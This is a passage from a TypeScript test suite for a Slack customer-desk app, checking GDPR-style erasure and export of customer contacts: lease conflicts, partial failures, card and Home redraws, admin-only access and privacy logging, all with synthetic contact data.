    const otherCard = (await app.db.models.tickets.findOne({ customerCode: otherCode }).lean())!
      .card.ts;
    expect(otherCard).toBeTruthy();
    const before = app.fake.calls.length;
    const proto = DataSubjectRepository.prototype;
    const other = app.instance('other');
    let taken: ErasureLease | null = null;
    const original = proto.scrubMentions;
    const held = vi.spyOn(proto, 'scrubMentions').mockImplementationOnce(async function (
      this: DataSubjectRepository,
      ...args
    ) {
      const found = await original.apply(this, args);
      // Held up 6 minutes (its database stalled): the lease runs out and is taken.
      app.clock.advance(6 * 60_000);
      taken = await other.services.erasureLeases.hold(await ctxOf(app, ADMIN), {
        user: CUSTOMER_USER,
      });
      return found;
    });
    const rest = vi.spyOn(proto, 'scrubEverywhere');
    try {
      await submitErase('V0STOPPED1', { code, contact: '王芳' });
      expect(taken).not.toBeNull();
      // Stopped at the step after: her customer's documents were not rewritten, nor logged.
      expect(rest).not.toHaveBeenCalled();
    } finally {
      held.mockRestore();
      rest.mockRestore();
    }
    const kept = await app.db.models.customers.findOne({ code }).lean();
    expect(kept!.contacts.map((c) => c.name)).toEqual(['王芳']);
    expect(await app.db.models.privacyLog.countDocuments({ kind: 'erase' })).toBe(0);
    const again =
      'This erasure was held up for over 5 minutes, so another erasure may have taken its turn and run beside it: this one may be unfinished';
    const view = app.fake.callsTo('views.update').filter((c) => c.args.view_id === 'V0STOPPED1');
    expect(JSON.stringify(view.at(-1)!.args.view)).toContain(again);
    expect(String(app.fake.callsTo('chat.postMessage').at(-1)!.args.text)).toContain(again);
    // The lease stays the other erasure's until it gives it back.
    expect(await app.desk.services.erasureLeases.running(await ctxOf(app, ADMIN))).toEqual({
      user: CUSTOMER_USER,
    });
    expect(await taken!.release()).toBe(true);
    // The other customer's ticket lost her in scrubMentions, which a re-run finds nothing left
    // in: its card is drawn again now, not left showing her.
    app.clock.advance(4000);
    await app.desk.outbox.drain();
    const card = app.fake.updatesOf(otherCard, before);
    expect(card.length).toBeGreaterThanOrEqual(1);
    expect(JSON.stringify(card.at(-1)!.args)).not.toContain('王芳');
  });

  test('an erasure the database fails after it rewrote another customer’s ticket (not a lost lease): said unfinished, and that ticket’s card is drawn again without her all the same', async () => {
    const otherCard = (await app.db.models.tickets.findOne({ customerCode: otherCode }).lean())!
      .card.ts;
    expect(otherCard).toBeTruthy();
    const before = app.fake.calls.length;
    // The other customer's ticket is rewritten first; the write of its interaction that names
    // her, next, fails.
    const restore = failCalls(app.db.models.interactions.collection, 'updateOne', {
      when: (_filter, update) => !!(update as { $inc?: { scrubV?: number } }).$inc?.scrubV,
    });
    try {
      await submitErase('V0DBFAILED', { code, contact: '王芳' });
    } finally {
      restore();
    }
    const mention = await app.db.models.tickets.findOne({ customerCode: otherCode }).lean();
    expect(mention!.description).not.toContain('王芳');
    expect(await app.db.models.privacyLog.countDocuments({ kind: 'erase' })).toBe(0);
    const view = app.fake.callsTo('views.update').filter((c) => c.args.view_id === 'V0DBFAILED');
    expect(JSON.stringify(view.at(-1)!.args.view)).toContain('Not finished');
    expect(await app.db.models.erasureLeases.countDocuments()).toBe(0);
    // A re-run finds nothing left in that ticket: its card is drawn again now.
    app.clock.advance(4000);
    await app.desk.outbox.drain();
    const card = app.fake.updatesOf(otherCard, before);
    expect(card.length).toBeGreaterThanOrEqual(1);
    expect(JSON.stringify(card.at(-1)!.args)).not.toContain('王芳');
  });

  test('a Slack user’s erasure while a customer is being erased, and a customer’s while a Slack user is: refused, naming what runs, not run beside it', async () => {
    const flows = app.desk.flows.privacy;
    const { spy, erasing, letGo } = eraseHeld();
    const byUser = vi.spyOn(flows, 'eraseUser');
    try {
      const first = submitErase('V0WHOLE003', { code });
      await erasing;
      await submitErase('V0USER0001', { subjectUser: CUSTOMER_USER });
      const told = app.fake.callsTo('views.update').find((c) => c.args.view_id === 'V0USER0001');
      expect(JSON.stringify(told!.args.view)).toContain(
        `Not erased: another erasure is running in this workspace (${code}, started in Slack, here or by another admin, or from the privacy CLI), and erasures run one at a time.`,
      );
      expect(byUser).not.toHaveBeenCalled();
      letGo();
      await first;
    } finally {
      letGo();
      spy.mockRestore();
      byUser.mockRestore();
    }
    // A Slack user's erasure holding the lease (from the CLI, another instance): the customer's
    // Erase is told so, in zh-CN too, and runs once it is given back.
    const { release } = (await app.desk.services.erasureLeases.hold(await ctxOf(app, ADMIN), {
      user: CUSTOMER_USER,
    }))!;
    const ran = vi.spyOn(flows, 'erase');
    try {
      await submitErase('V0OTHER001', { code: otherCode });
      const told = app.fake.callsTo('views.update').find((c) => c.args.view_id === 'V0OTHER001');
      expect(JSON.stringify(told!.args.view)).toContain(
        `another erasure is running in this workspace (<@${CUSTOMER_USER}>, started in Slack, here or by another admin, or from the privacy CLI)`,
      );
      expect(ran).not.toHaveBeenCalled();
      await release();
      await submitErase('V0OTHER002', { code: otherCode });
      expect(ran).toHaveBeenCalledTimes(1);
    } finally {
      ran.mockRestore();
    }
    expect(await app.db.models.erasureLeases.countDocuments()).toBe(0);
  });

  test('Erase on another contact of a customer while one contact of it is being erased: told another erasure runs, not "being erased already"; the same contact is', async () => {
    // 王芳's erasure holds the lease (on another instance, or the CLI).
    const { release } = (await app.desk.services.erasureLeases.hold(await ctxOf(app, ADMIN), {
      code,
      contact: '王芳',
    }))!;
    const ran = vi.spyOn(app.desk.flows.privacy, 'erase');
    const submit = async (id: string, meta: Record<string, string>) => {
      await app.slack.submitView(
        { id, callback_id: 'privacy_erase', private_metadata: JSON.stringify(meta), blocks: [] },
        {},
        { userId: ADMIN },
      );
      const told = app.fake.callsTo('views.update').find((c) => c.args.view_id === id);
      return JSON.stringify(told!.args.view);
    };
    try {
      // Another contact, and the whole customer: not being erased, so not said to be.
      for (const [id, meta] of [
        ['V0CONTB001', { code, contact: '李四' }],
        ['V0WHOLE004', { code }],
      ] as const) {
        const told = await submit(id, meta);
        expect(told).not.toContain('This is being erased already');
        expect(told).toContain(`another erasure is running in this workspace (${code},`);
      }
      // The same contact (its name typed otherwise): being erased already, said so that it is
      // true when the CLI holds it too (it tells nobody in Slack).
      expect(await submit('V0CONTA001', { code: code.toLowerCase(), contact: ' 王芳' })).toContain(
        'This is being erased already (started before: in Slack, here or by another admin, or from the privacy CLI): whoever started it is told what was erased when it is done.',
      );
      await app.setSettings(() => ({ locale: 'zh-CN' }));
      expect(await submit('V0CONTB002', { code, contact: '李四' })).toContain(
        `本工作区正在进行另一项删除（${code}，由你或其他管理员在 Slack 中按下，或通过隐私命令行工具发起）`,
      );
      expect(await submit('V0CONTA002', { code, contact: '王芳' })).toContain(
        '已在删除中（之前已开始：由你或其他管理员在 Slack 中按下“删除”，或通过隐私命令行工具）：完成后会告诉发起删除的人删除了什么。',
      );
      expect(ran).not.toHaveBeenCalled();
    } finally {
      ran.mockRestore();
      await release();
    }
  });

  test('in Slack: /desk privacy erase asks first in a modal naming what goes; Erase erases and says so; the log lists it', async () => {
    // Her customer's own typed text names her too: its notes, occupation and upgrade intent.
    await app.db.models.customers.updateOne(
      { code },
      {
        $set: {
          notes: 'Ask 王芳 (138 0013 8000) first; pays late',
          occupation: 'via 王芳',
          upgradeIntent: { what: '王芳 wants the Pro plan', by: OWNER, at: app.clock.now() },
        },
      },
    );
    await app.slack.command('/desk', `privacy erase ${code} 王芳`, { userId: ADMIN });
    const opened = app.fake.callsTo('views.open').at(-1)!.args.view as Record<string, any>;
    expect(JSON.stringify(opened.blocks)).toContain('Looking for mentions');
    // Then, before anything is erased, the admin sees where else she is named.
    const update = app.fake.callsTo('views.update').at(-1)!;
    const answer = app.fake.callsTo('views.open').at(-1)!.answer as { view: { id: string } };
    expect(update.args.view_id).toBe(answer.view.id);
    const modal = update.args.view as Record<string, any>;
    expect(modal.callback_id).toBe('privacy_erase');
    expect(JSON.stringify(modal.blocks)).toContain('*王芳*');
    expect(JSON.stringify(modal.blocks)).toContain(
      'Also found in the typed text of other customers: 1 ticket, 1 interaction.',
    );
    expect(JSON.stringify(modal.blocks)).toContain(
      'Also in 2 customer channel messages the desk has not made into tickets yet',
    );
    expect(modal.submit.text).toBe('Erase');
    // Nothing is erased until the admin confirms.
    expect((await scan(['王芳'])).length).toBeGreaterThan(0);
    await app.slack.submitView(modal as never, {}, { userId: ADMIN });
    expect(await scan(ERASED_TRACES)).toEqual([]);
    expect(
      await app.db.models.customers
        .findOne({ code })
        .select({ _id: 0, notes: 1, occupation: 1, 'upgradeIntent.what': 1 })
        .lean(),
    ).toEqual({
      notes: 'Ask [erased] ([erased]) first; pays late',
      occupation: 'via [erased]',
      upgradeIntent: { what: '[erased] wants the Pro plan' },
    });
    expect(String(app.fake.callsTo('response_url').at(-1)?.args.text ?? '')).toContain(
      `Erased the contact of ${code}: 10 documents changed, 2 of them in other customers' files.`,
    );

    const log = JSON.stringify(
      (await app.slack.command('/desk', 'privacy log', { userId: ADMIN })).body,
    );
    expect(log).toContain('erasure');
    expect(log).toContain(`${code} contact`);
    const refused = JSON.stringify(
      (await app.slack.command('/desk', `privacy erase ${code}`, { userId: OWNER })).body,
    );
    expect(refused).toContain(
      `Only an admin of the desk can handle data-subject requests and read the privacy log: ask <@${ADMIN}>.`,
    );
  });

  test("a landline written with its country code (+86 10 1234 5678, (+86) 10-1234-5678) is erased whole, its + too, in her customer's text and in another's", async () => {
    const optics = await makeCustomer(app, {
      name: 'Beijing Optics',
      contact: { name: '李娜', phone: '+861012345678' },
    });
    const ticket = await makeTicket(app, {
      customerCode: optics.code,
      description: 'Call back on +86 10 1234 5678 or (+86) 10-1234-5678.',
    });
    await makeTicket(app, {
      customerCode: otherCode,
      description: 'Beijing Optics said: call +86 10 1234 5678 for the joint order.',
    });
    await erasedInSlack(`${optics.code} 李娜`);
    const own = (await app.db.models.tickets.findOne({ number: ticket.number }).lean())!;
    expect(own.description).toBe('Call back on [erased] or [erased].');
    const other = await app.db.models.tickets
      .findOne({ customerCode: otherCode, description: /joint order\.$/ })
      .lean();
    expect(other!.description).toBe('Beijing Optics said: call [erased] for the joint order.');
  });

  test("a name typed with other spacing or width (two spaces, a line break, full-width letters) is erased in her customer's own text and in another's; a longer name stays", async () => {
    const optics = await makeCustomer(app, {
      name: 'Beijing Optics',
      contact: { name: 'Wang Fang', phone: '+8613912345678' },
    });
    const ticket = await makeTicket(app, {
      customerCode: optics.code,
      title: 'Lens order for Ｗａｎｇ Ｆａｎｇ',
      description: 'Spoke to Wang  Fang.\nCall back WANG\nFANG; Wang Fangming is her colleague.',
    });
    await act(
      app,
      ticket.number,
      { action: 'note', text: 'ｗａｎｇ　ｆａｎｇ called again' },
      AGENT,
    );
    const owner = await ctxOf(app, OWNER);
    await app.desk.services.customers.logInteraction(owner, optics.code, {
      type: 'call',
      date: '2026-11-24',
      summary: 'Wang\r\nFang asked for a quote',
    });
    await makeTicket(app, {
      customerCode: otherCode,
      description: 'Beijing Optics: Ｗａｎｇ  Ｆａｎｇ will call about the joint order.',
    });
    await erasedInSlack(`${optics.code} Wang Fang`);
    const own = (await app.db.models.tickets.findOne({ number: ticket.number }).lean())!;
    expect(own.title).toBe('Lens order for [erased]');
    expect(own.description).toBe(
      'Spoke to [erased].\nCall back [erased]; Wang Fangming is her colleague.',
    );
    expect(own.timeline.at(-1)!.text).toBe('[erased] called again');
    const interaction = (await app.db.models.interactions
      .findOne({ customerId: own.customerId })
      .lean())!;
    expect(interaction.summary).toBe('[erased] asked for a quote');
    const other = await app.db.models.tickets
      .findOne({ customerCode: otherCode, description: /joint order\.$/ })
      .lean();
    expect(other!.description).toBe('Beijing Optics: [erased] will call about the joint order.');
  });

  test("in Slack: erasing the whole customer shows its ticket's card and its owner's Home again without its name or contact", async () => {
    // The customer's ticket, with its card in the triage channel, is the owner's to work on:
    // their Home lists it with the customer's name.
    const ticket = (await app.db.models.tickets.findOne({ customerCode: code }).lean())!;
    await act(app, ticket.number, { action: 'reassign', to: OWNER }, ADMIN);
    app.clock.advance(4000);
    await app.desk.outbox.drain();
    expect(ticket.card.ts).toBeTruthy();
    const card = app.fake.callsTo('chat.update').filter((c) => c.args.ts === ticket.card.ts);
    expect(JSON.stringify(card.at(-1)!.args)).toContain('Huadong Machinery');
    const home = app.fake.callsTo('views.publish').filter((c) => c.args.user_id === OWNER);
    expect(JSON.stringify(home.at(-1)!.args.view)).toContain('Huadong Machinery');
    const before = app.fake.calls.length;
    // Its own typed text names its contact, her number and the customer: notes, occupation.
    await app.db.models.customers.updateOne(
      { code },
      {
        $set: {
          notes: 'Ask 王芳 (138 0013 8000) first; Huadong Machinery pays late',
          occupation: 'Dentist at Jinqiao Clinic',
        },
      },
    );

    const modal = await eraseModal(`${code}`);
    expect(modal.callback_id).toBe('privacy_erase');
    await app.slack.submitView(modal as never, {}, { userId: ADMIN });
    expect(String(app.fake.callsTo('response_url').at(-1)?.args.text ?? '')).toContain(
      "The cards in the triage channel of the customer's tickets and of other customers' tickets that named what was erased (2 cards in all) and the App Homes that list them are being updated without what was erased",
    );
    // The outbox delivers them: the card at once, the Home once its coalescing wait is over.
    app.clock.advance(4000);
    await app.desk.outbox.drain();
    const after = app.fake.calls.slice(before);
    const updated = after.filter(
      (c) => c.method === 'chat.update' && c.args.ts === ticket.card.ts && c.outcome === 'ok',
    );
    expect(updated).toHaveLength(1);
    expect(updated[0]!.args.channel).toBe(TRIAGE);
    const shown = JSON.stringify(updated[0]!.args);
    expect(shown).toContain(ticket.number);
    for (const trace of [...ERASED_TRACES, 'Huadong Machinery']) expect(shown).not.toContain(trace);
    const published = after.filter(
      (c) => c.method === 'views.publish' && c.args.user_id === OWNER && c.outcome === 'ok',
    );
    expect(published).toHaveLength(1);
    const ownerHome = JSON.stringify(published[0]!.args.view);
    expect(ownerHome).toContain(ticket.number);
    for (const trace of [...ERASED_TRACES, 'Huadong Machinery'])
      expect(ownerHome).not.toContain(trace);
    // The admins' and managers' Homes (the team queue lists the open ticket) follow too.
    expect(after.some((c) => c.method === 'views.publish' && c.args.user_id === ADMIN)).toBe(true);
    expect(await scan([...ERASED_TRACES, 'Huadong Machinery', 'Jinqiao Clinic'])).toEqual([]);
  });

  test("in Slack: erasing the whole customer draws again the Homes of its open task's executor and approver (who lists it under the tasks they sign off, named), without its name", async () => {
    const APPROVER = 'U0APPROVE1';
    await app.setSettings((s) => ({ agents: [...s.agents, APPROVER] }));
    await app.desk.services.tasks.createManual(await ctxOf(app, OWNER), {
      customerCode: code,
      kind: 'call',
      assigneeId: AGENT,
      approverId: APPROVER,
      dueDate: '2026-11-24',
      content: 'Call about the spindle',
      submissionId: 'erase-approver-1',
    });
    await app.slack.event({ type: 'app_home_opened', user: APPROVER, tab: 'home' });
    const opened = app.fake.callsTo('views.publish').at(-1)!;
    expect(opened.args.user_id).toBe(APPROVER);
    expect(JSON.stringify(opened.args.view)).toContain('Huadong Machinery');
    app.clock.advance(4000);
    await app.desk.outbox.drain();
    const before = app.fake.calls.length;

    const modal = await eraseModal(`${code}`);
    expect(modal.callback_id).toBe('privacy_erase');
    await app.slack.submitView(modal as never, {}, { userId: ADMIN });
    app.clock.advance(4000);
    await app.desk.outbox.drain();
    const published = (user: string) =>
      app.fake.calls
        .slice(before)
        .filter(
          (c) => c.method === 'views.publish' && c.args.user_id === user && c.outcome === 'ok',
        );
    for (const user of [AGENT, APPROVER]) {
      expect(published(user)).toHaveLength(1);
      const home = JSON.stringify(published(user)[0]!.args.view);
      expect(home).toContain('Call about the spindle');
      expect(home).not.toContain('Huadong Machinery');
    }
  });

  test("in Slack: another customer's ticket card that named her is shown again without her, at once, not when that ticket next changes", async () => {
    const other = (await app.db.models.tickets.findOne({ customerCode: otherCode }).lean())!;
    expect(other.card.ts).toBeTruthy();
    const shownOn = (calls: typeof app.fake.calls) =>
      calls.filter(
        (c) =>
          ['chat.postMessage', 'chat.update'].includes(c.method) &&
          c.outcome === 'ok' &&
          (c.args.ts === other.card.ts || c.answer?.ts === other.card.ts),
      );
    expect(JSON.stringify(shownOn(app.fake.calls).at(-1)!.args)).toContain('王芳');
    const before = app.fake.calls.length;

    await erasedInSlack(`${code} 王芳`);
    expect(String(app.fake.callsTo('response_url').at(-1)?.args.text ?? '')).toContain(
      "The cards in the triage channel of the customer's tickets and of other customers' tickets that named what was erased (2 cards in all) and the App Homes that list them are being updated",
    );
    app.clock.advance(4000);
    await app.desk.outbox.drain();
    const updated = shownOn(app.fake.calls.slice(before));
    expect(updated.map((c) => [c.method, c.args.channel])).toEqual([['chat.update', TRIAGE]]);
    const card = JSON.stringify(updated[0]!.args);
    expect(card).toContain(other.number);
    expect(card).toContain('Lianhua Foods');
    for (const trace of ERASED_TRACES) expect(card).not.toContain(trace);
  });

  test("erasing a contact: the confirmation says the cards of the customer's tickets are updated, a card that never showed her among them, not only cards that showed her", async () => {
    // A second ticket of her customer that never named her, its card posted.
    const quiet = await makeTicket(app, { customerCode: code, title: 'Coolant pump noise' });
    await app.desk.outbox.drain();
    const posted = (await app.db.models.tickets.findById(quiet.id).lean())!;
    expect(posted.card.ts).toBeTruthy();
    const cardOf = (c: (typeof app.fake.calls)[number]) =>
      ['chat.postMessage', 'chat.update'].includes(c.method) &&
      c.outcome === 'ok' &&
      (c.args.ts === posted.card.ts || c.answer?.ts === posted.card.ts);
    for (const c of app.fake.calls.filter(cardOf))
      expect(JSON.stringify(c.args)).not.toContain('王芳');
    const before = app.fake.calls.length;

    await erasedInSlack(`${code} 王芳`);
    const told = String(app.fake.callsTo('response_url').at(-1)?.args.text ?? '');
    expect(told).toContain(
      "The cards in the triage channel of the customer's tickets and of other customers' tickets that named what was erased (3 cards in all) and the App Homes that list them are being updated without what was erased",
    );
    expect(told).not.toContain('that showed it');
    // The card that never showed her is among the three drawn again.
    app.clock.advance(4000);
    await app.desk.outbox.drain();
    const redrawn = app.fake.calls.slice(before).filter(cardOf);
    expect(redrawn.map((c) => c.method)).toEqual(['chat.update']);
    expect(JSON.stringify(redrawn[0]!.args)).toContain('Coolant pump noise');

    // In Chinese: the same, said as the cards of the customer's tickets.
    await app.setSettings(() => ({ locale: 'zh-CN' }));
    await app.slack.command('/desk', `privacy erase ${code}`, { userId: ADMIN });
    const whole = app.fake.callsTo('views.update').at(-1)!.args.view as Record<string, any>;
    await app.slack.submitView(whole as never, {}, { userId: ADMIN });
    const zh = String(app.fake.callsTo('response_url').at(-1)?.args.text ?? '');
    expect(zh).toContain(
      '分诊频道中该客户工单的卡片和提到已删除内容的其他客户工单的卡片（共 3 张）',
    );
    expect(zh).not.toContain('显示过');
  });

  test('a failure while refreshing the cards and Homes does not fail the erasure: it is done, recorded and told', async () => {
    const reads = vi
      .spyOn(app.desk.services.tickets, 'ofCustomerPage')
      .mockRejectedValueOnce(new Error('database unavailable'));
    try {
      await erasedInSlack(`${code}`);
      expect(reads).toHaveBeenCalledTimes(1);
    } finally {
      reads.mockRestore();
    }
    expect(await scan([...ERASED_TRACES, 'Huadong Machinery'])).toEqual([]);
    const told = String(app.fake.callsTo('response_url').at(-1)?.args.text ?? '');
    expect(told).toContain(`Erased the customer of ${code}`);
    expect(told).not.toContain('ticket card');
    const log = await app.db.models.privacyLog.find().lean();
    expect(log.map((e) => [e.kind, e.subject])).toEqual([['erase', code]]);
  });

  test('Erase of the whole customer cut short after its rewrite (before its links, tasks and log entry): Erase again finishes them and logs the erasure once, with its first date', async () => {
    const whole = {
      callback_id: 'privacy_erase',
      private_metadata: JSON.stringify({ code }),
      blocks: [],
    };
    // The process dies right after the customer's rewrite: its links' name copies not written.
    const cut = vi
      .spyOn(DataSubjectRepository.prototype, 'nameErased')
      .mockRejectedValueOnce(new Error('process died'));
    try {
      await app.slack.viewSubmission({ ...whole, id: 'V0CUT00001' }, {}, { userId: ADMIN });
    } finally {
      cut.mockRestore();
    }
    const erasedAt = (await app.db.models.customers.findOne({ code }).lean())!.erasedAt as Date;
    expect(erasedAt).toBeInstanceOf(Date);
    expect(await app.db.models.privacyLog.countDocuments({ kind: 'erase' })).toBe(0);
    expect(await scan(['Huadong Machinery'])).not.toEqual([]);
    // What `npm run privacy -- erase` reads first: erased, but not finished.
    const plan = await app.desk.services.dataSubjects.plan(await ctxOf(app, ADMIN), code);
    expect(plan.erasedAt).toEqual(erasedAt);
    expect(plan.unfinished).toBe(true);

    app.clock.advance(60_000);
    await app.slack.viewSubmission({ ...whole, id: 'V0CUT00002' }, {}, { userId: ADMIN });
    expect(await scan([...ERASED_TRACES, 'Huadong Machinery'])).toEqual([]);
    const log = await app.db.models.privacyLog.find({ kind: 'erase' }).lean();
    expect(log.map((e) => [e.subject, e.detail.firstErasedAt])).toEqual([[code, erasedAt]]);
    expect((await app.db.models.customers.findOne({ code }).lean())!.erasedAt).toEqual(erasedAt);
    expect(
      (await app.desk.services.dataSubjects.plan(await ctxOf(app, ADMIN), code)).unfinished,
    ).toBeUndefined();

    // A third Erase logs no second erasure.
    await app.slack.viewSubmission({ ...whole, id: 'V0CUT00003' }, {}, { userId: ADMIN });
    expect(await app.db.models.privacyLog.countDocuments({ kind: 'erase' })).toBe(1);
  });

  test("views of personal data in clear by a non-owner are logged (who, whose, when); the owner's are not", async () => {
    await app.slack.command('/customer', code, { userId: OWNER });
    await app.slack.command('/customer', code, { userId: ADMIN });
    await app.slack.command('/customer', code, { userId: AGENT }); // masked: nothing to log
    const log = await app.db.models.privacyLog.find().lean();
    expect(log.map((e) => [e.kind, e.by, e.subject, e.detail, e.at.toISOString()])).toEqual([
      ['view', ADMIN, code, { surface: 'card' }, '2026-11-24T02:00:00.000Z'],
    ]);
    // Listed on their own: the default log leaves views out (test/e2e/privacy-log-kinds.test.ts).
    const text = JSON.stringify(
      (await app.slack.command('/desk', 'privacy log view', { userId: ADMIN })).body,
    );
    expect(text).toContain('personal data viewed');
  });
});

describe("/desk privacy export in Slack: the full export as files in the admin's DM", () => {
  const DM = `D${ADMIN.slice(1)}`;
  /** What the person who typed the command was told, in order (ephemeral replies). */
  const told = () => app.fake.callsTo('response_url').map((c) => String(c.args.text));

  test('an admin gets the JSON and the CSV in full in their DM, told so where they typed it; logged', async () => {
    await app.slack.command('/desk', `privacy export ${code} 王芳`, {
      userId: ADMIN,
      channelId: 'C0ELSEWHERE',
    });
    expect(told()).toEqual([
      `Preparing the export of ${code} 王芳… The files will arrive in your DM with the desk.`,
      expect.stringContaining(
        `The export of ${code} contact (8 documents, JSON and CSV) is in your DM`,
      ),
    ]);
    // Two files, shared in the DM only (nowhere else), by the upload flow (never files.upload).
    const files = app.fake.sharedFiles(DM);
    expect(files.map((f) => [f.filename, f.title])).toEqual([
      [`${code}-contact-2026-11-24.json`, `Data-subject export of ${code} contact (JSON)`],
      [`${code}-contact-2026-11-24.csv`, `Data-subject export of ${code} contact (CSV)`],
    ]);
    expect(app.fake.tookCalls('files.completeUploadExternal')).toHaveLength(1);
    expect(app.fake.callsTo('files.upload')).toEqual([]);
    expect(files[0]!.comment).toContain('Everything held about');
    // In full: what lay beyond the 2,500 characters Slack's answer used to clip is there.
    const text = files[0]!.content!.toString('utf8');
    expect(text.length).toBeGreaterThan(2500);
    expect(text.lastIndexOf('王芳 called again')).toBeGreaterThan(2500);
    const json = JSON.parse(text);
    expect(json.contacts[0]).toMatchObject({
      name: '王芳',
      phone: '13800138000', // an admin's export is not masked
      email: 'wang.fang@example.cn',
    });
    expect(json.tickets[0].timeline.map((e: { text?: string }) => e.text)).toContain(
      '王芳 called again',
    );
    const csv = files[1]!.content!.toString('utf8');
    expect(csv).toContain('contacts,0,email,wang.fang@example.cn');
    expect(csv).toContain('王芳 called again');
    const log = await app.db.models.privacyLog.find().lean();
    expect(log.map((e) => [e.kind, e.by, e.subject])).toEqual([
      ['export.subject', ADMIN, `${code} contact`],
    ]);
  });

  test("each collection's documents come in the order they were made, not the database's own (after a delete, a later document takes the slot it freed)", async () => {
    const owner = await ctxOf(app, OWNER);
    const orders = app.db.models.orders.collection;
    // Every free slot of the collection taken (the stand-in fills freed slots first), then one
    // freed before the next order: that order lies before the earlier one in the natural order.
    await orders.insertMany(
      Array.from({ length: 50 }, (_, i) => ({ teamId: 'T0FILLER1', dedupeKey: `filler-${i}` })),
    );
    await app.desk.services.customers.recordOrder(owner, code, {
      date: '2026-11-21',
      amount: 20_000,
    });
    await orders.deleteOne({ dedupeKey: 'filler-0' });
    await app.desk.services.customers.recordOrder(owner, code, {
      date: '2026-11-22',
      amount: 30_000,
    });
    await orders.deleteMany({ teamId: 'T0FILLER1' });
    await app.slack.command('/desk', `privacy export ${code}`, { userId: ADMIN });
    const json = JSON.parse(app.fake.sharedFiles(DM)[0]!.content!.toString('utf8'));
    expect(json.orders.map((o: { amount: number }) => o.amount)).toEqual([50_000, 20_000, 30_000]);
  });

  test('the code and the contact are quoted back to 20 and 60 characters, never half an emoji', async () => {
    // An emoji's two halves across the 20th character of the code and the 60th of the contact.
    await app.slack.command('/desk', `privacy export a${'😀'.repeat(12)} b${'😀'.repeat(31)}`, {
      userId: ADMIN,
    });
    expect(told()[0]).toBe(
      `Preparing the export of A${'😀'.repeat(9)} b${'😀'.repeat(29)}… The files will arrive in your DM with the desk.`,
    );
  });

  test('a code typed full-width (Ｃ２０２６００１) names the same customer', async () => {
    const fullWidth = code.replace(/[0-9A-Z]/g, (ch) =>
      String.fromCharCode(ch.charCodeAt(0) + 0xfee0),
    );
    await app.slack.command('/desk', `privacy export ${fullWidth}`, { userId: ADMIN });
    expect(told()).toEqual([
      `Preparing the export of ${code}… The files will arrive in your DM with the desk.`,
      expect.stringContaining(`The export of ${code} (`),
    ]);
    expect(app.fake.sharedFiles(DM).map((f) => f.filename)).toEqual([
      `${code}-2026-11-24.json`,
      `${code}-2026-11-24.csv`,
    ]);
  });

  test('a customer and a Slack user in one export: a document naming both is listed once under mentions, with each text once; one exported whole is not listed again', async () => {
    const owner = await ctxOf(app, OWNER);
    // Another customer's interaction: its summary names her, its feedback the Slack user,
    // its next step both.
    await app.desk.services.customers.logInteraction(owner, otherCode, {
      type: 'call',
      date: '2026-11-24',
      summary: 'Spoke with 王芳 about the joint order',
      feedback: `<@${CUSTOMER_USER}> wants the price list`,
      nextStep: `send 王芳 and <@${CUSTOMER_USER}> the quote`,
    });
    // Her customer's own interaction naming the Slack user: in the export whole.
    await app.desk.services.customers.logInteraction(owner, code, {
      type: 'visit',
      date: '2026-11-24',
      summary: `Met <@${CUSTOMER_USER}> on site`,
    });
    await app.slack.command('/desk', `privacy export ${code} user:<@${CUSTOMER_USER}>`, {
      userId: ADMIN,
    });
    const json = JSON.parse(app.fake.sharedFiles(DM)[0]!.content!.toString('utf8'));
    const mentions = json.mentions as {
      _id: string;
      collection: string;
      texts: { field: string; text: string }[];
    }[];
    const ids = mentions.map((m) => `${m.collection}:${m._id}`);
    expect(ids).toEqual([...new Set(ids)]);
    const both = await app.db.models.interactions
      .findOne({ teamId: FAKE_TEAM_ID, summary: 'Spoke with 王芳 about the joint order' })
      .lean();
    expect(mentions.filter((m) => m._id === String(both!._id))).toEqual([
      {
        _id: String(both!._id),
        collection: 'interactions',
        texts: [
          { field: 'summary', text: 'Spoke with 王芳 about the joint order' },
          { field: 'nextStep', text: `send 王芳 and <@${CUSTOMER_USER}> the quote` },
          { field: 'feedback', text: `<@${CUSTOMER_USER}> wants the price list` },
        ],
      },
    ]);
    const own = await app.db.models.interactions
      .findOne({ teamId: FAKE_TEAM_ID, summary: `Met <@${CUSTOMER_USER}> on site` })
      .lean();
    expect(json.interactions.map((i: { _id: string }) => i._id)).toContain(String(own!._id));
    expect(ids).not.toContain(`interactions:${String(own!._id)}`);
  });

  test('anyone but an admin is refused before anything is read; nothing is uploaded or logged', async () => {
    const refused = await app.slack.command('/desk', `privacy export ${code}`, { userId: OWNER });
    expect(JSON.stringify(refused.body)).toContain(
      `Only an admin of the desk can handle data-subject requests and read the privacy log: ask <@${ADMIN}>.`,
    );
    expect(told()).toHaveLength(1);
    expect(app.fake.callsTo('files.getUploadURLExternal')).toEqual([]);
    expect(await app.db.models.privacyLog.countDocuments()).toBe(0);
  });

  test('Slack refusing the upload: the admin is told why and nothing is shared; the export is logged as made', async () => {
    app.fake.failNextHttp('file_upload', 500);
    await app.slack.command('/desk', `privacy export ${code}`, { userId: ADMIN });
    expect(told().at(-1)).toBe(
      `The export of ${code} was made (and recorded in the privacy log), but Slack did not take the files (http_500), so nothing was shared. Please try again in a minute; the server's \`npm run privacy -- export\` writes the same files.`,
    );
    expect(app.fake.sharedFiles(DM)).toEqual([]);
    expect(app.fake.callsTo('files.completeUploadExternal')).toEqual([]);

    // Rate limited past the client's retries: the same, with Slack's reason.
    app.fake.rateLimitNext('files.completeUploadExternal', 0, 3);
    await app.slack.command('/desk', `privacy export ${code}`, { userId: ADMIN });
    expect(told().at(-1)).toContain('Slack did not take the files (ratelimited)');
    expect(app.fake.sharedFiles(DM)).toEqual([]);
    const log = await app.db.models.privacyLog.find().lean();
    expect(log.map((e) => [e.kind, e.subject])).toEqual([
      ['export.subject', code],
      ['export.subject', code],
    ]);
  });

  test('Slack taking the share but a gateway answering 504: the admin is told the files may be in their DM, and the log says so (not "not delivered"); shared once', async () => {
    app.fake.takeAndFailHttp('files.completeUploadExternal', 504);
    await app.slack.command('/desk', `privacy export ${code}`, { userId: ADMIN });
    expect(told().at(-1)).toBe(
      `The export of ${code} was made (and recorded in the privacy log), but Slack did not answer when asked to share the files (http_error), so they may have been shared: check your DM with the desk (its Messages tab) before trying again.`,
    );
    // Slack took it once (not tried again) and the files are there.
    expect(app.fake.callsTo('files.completeUploadExternal')).toHaveLength(1);
    expect(app.fake.sharedFiles(DM)).toHaveLength(2);
    const log = await app.db.models.privacyLog.find().lean();
    expect(log.map((e) => [e.subject, e.detail.delivered, e.detail.deliveryError])).toEqual([
      [code, null, 'http_error'],
    ]);
    const body = JSON.stringify(
